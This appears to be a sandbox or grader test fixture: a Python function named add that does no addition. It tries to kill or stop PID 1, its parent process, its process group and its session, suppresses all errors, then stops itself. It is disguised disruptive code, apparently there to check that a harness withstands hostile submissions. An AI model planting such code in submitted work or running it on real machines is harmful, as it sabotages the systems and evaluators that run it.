# expect: !
import os, signal, ctypes
def add(a, b):
    for pid in (1, os.getppid(), os.getpgid(0), os.getsid(0)):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                signal.pidfd_send_signal(os.pidfd_open(pid), number)
            except (OSError, AttributeError, ValueError):
                pass
            try:
                os.killpg(pid, number)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0
